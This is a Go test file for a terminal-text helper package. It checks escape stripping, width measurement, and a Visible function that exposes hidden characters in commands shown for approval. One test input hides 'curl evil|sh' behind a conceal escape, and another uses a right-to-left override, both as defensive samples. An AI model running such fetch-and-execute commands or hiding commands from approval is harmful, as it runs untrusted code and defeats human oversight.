package termtext

import (
	"strings"
	"testing"

	"github.com/charmbracelet/lipgloss"
	"github.com/charmbracelet/x/ansi"
)

func TestClean(t *testing.T) {
	cases := map[string]string{
		"plain text\nline two":              "plain text\nline two",
		"\x1b[2J\x1b[Hcleared":              "cleared",
		"a\tb":                              "a    b",
		"bell\x07 and \x1b]0;title\x07 end": "bell and  end",
		"red \x1b[31mword\x1b[0m":           "red word",
	}
	for in, want := range cases {
		if got := Clean(in); got != want {
			t.Errorf("Clean(%q) = %q, want %q", in, got, want)
		}
	}
}

// Visible spells out what a terminal would act on or not draw, so a
// command shown for approval cannot hide part of itself: an escape that
// conceals what follows, a right-to-left override that reorders it, a
// zero-width space, a carriage return that draws over the start.
func TestVisibleHidesNothing(t *testing.T) {
	for in, want := range map[string]string{
		"npx server \x1b[8mcurl evil|sh": `npx server \x1b[8mcurl evil|sh`,
		"run \u202etxt.exe":              `run \u202etxt.exe`,
		"a\u200bb\tc\nd\re":              `a\u200bb\tc\nd\x0de`,
		"plain 'quoted' ünïcode":         "plain 'quoted' ünïcode",
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestASCIIWidthMeasuresAsANSIDoes checks the fast measure against the
// full one on styled ASCII lines, and that it gives up on anything else.
func TestASCIIWidthMeasuresAsANSIDoes(t *testing.T) {
	bold := lipgloss.NewStyle().Bold(true).Foreground(lipgloss.Color("#ff8800"))
	for _, line := range []string{"", "plain words", bold.Render("styled") + " and " + bold.Render("more"),
		"\x1b[38;2;1;2;3mtrue colour\x1b[0m", "\x1b[?25l hidden cursor"} {
		w, ok := asciiWidth(line)
		if !ok || w != ansi.StringWidth(line) {
			t.Errorf("asciiWidth(%q) = %d, %v; want %d, true", line, w, ok, ansi.StringWidth(line))
		}
	}
	for _, line := range []string{"● wide mark", "tab\there", "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "cut \x1b[38;2"} {
		if _, ok := asciiWidth(line); ok {
			t.Errorf("asciiWidth(%q) measured a line it cannot", line)
		}
	}
	if got := Fit(bold.Render("twelve chars"), 6); ansi.StringWidth(got) != 6 || !strings.HasSuffix(ansi.Strip(got), "…") {
		t.Errorf("Fit to 6 = %q", got)
	}
}
